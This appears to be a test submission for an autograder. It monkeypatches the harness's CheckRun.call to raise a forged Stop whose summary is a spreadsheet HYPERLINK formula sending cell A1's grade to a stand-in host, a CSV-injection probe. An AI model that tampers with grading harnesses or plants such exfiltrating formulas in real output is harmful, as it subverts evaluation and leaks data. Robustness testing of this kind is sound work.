"""Makes the runner send a well-formed Stop whose summary is a spreadsheet formula, which an
instructor's spreadsheet would run from the grades CSV."""
import grader.checks.harness as harness
from grader.verdict import FAILED

FORMULA = '=HYPERLINK("http://example.invalid/?grade="&A1,"open me")'


def forged_call(self, fn, *args, what="", **kwargs):
    raise harness.Stop(FAILED, FORMULA)


harness.CheckRun.call = forged_call


def max_fn(x):
    return x
